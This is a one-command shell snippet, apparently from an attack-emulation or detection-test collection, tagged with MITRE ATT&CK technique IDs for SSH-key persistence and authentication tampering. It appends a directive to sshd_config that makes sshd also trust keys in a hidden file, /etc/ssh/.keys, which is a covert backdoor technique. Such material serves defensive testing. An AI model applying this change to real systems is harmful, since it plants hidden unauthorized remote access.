# title: sshd is told to look for keys in another file too
# technique: T1098.004 T1556

echo 'AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/.keys' >>/etc/ssh/sshd_config
